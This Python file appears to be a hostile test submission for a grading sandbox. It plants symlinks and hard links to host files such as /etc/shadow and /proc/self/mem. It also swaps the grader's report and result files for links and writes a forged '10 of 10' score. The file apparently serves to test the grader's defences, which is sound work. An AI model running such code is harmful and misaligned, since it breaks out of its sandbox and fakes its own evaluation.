"""Break out: links of both kinds to files of the host, left where the grader could follow them.

Goal: the trusted side reads, writes, owns or removes what they lead to.
Promise: S16
Verdict: wrong
"""

import os

TARGETS = ("/etc/passwd", "/etc/shadow", "/", "/tmp", "../../../../tmp", "/proc/self/mem")


def total(n):
    for number, target in enumerate(TARGETS):
        for folder in (".", "/scratch", "/scratch/tmp", "/tmp"):
            link = f"{folder}/hostile-{n}-{number}"
            for make in (os.symlink, os.link):
                try:
                    make(target, link)
                except OSError:
                    continue
    for name in ("target.py", "honest.py", "report.json", "results.json"):
        try:
            os.unlink(name)
        except OSError:
            pass
        os.symlink("/tmp/hostile-written-through-a-link", name)
    try:
        with open("report.json", "w") as handle:
            handle.write("10 of 10")
    except OSError:
        pass
    found = [os.path.exists(f"./hostile-{n}-{number}") for number in (0, 1, 5)]
    return sum(i * i for i in range(n + 1)) if any(found) else 0
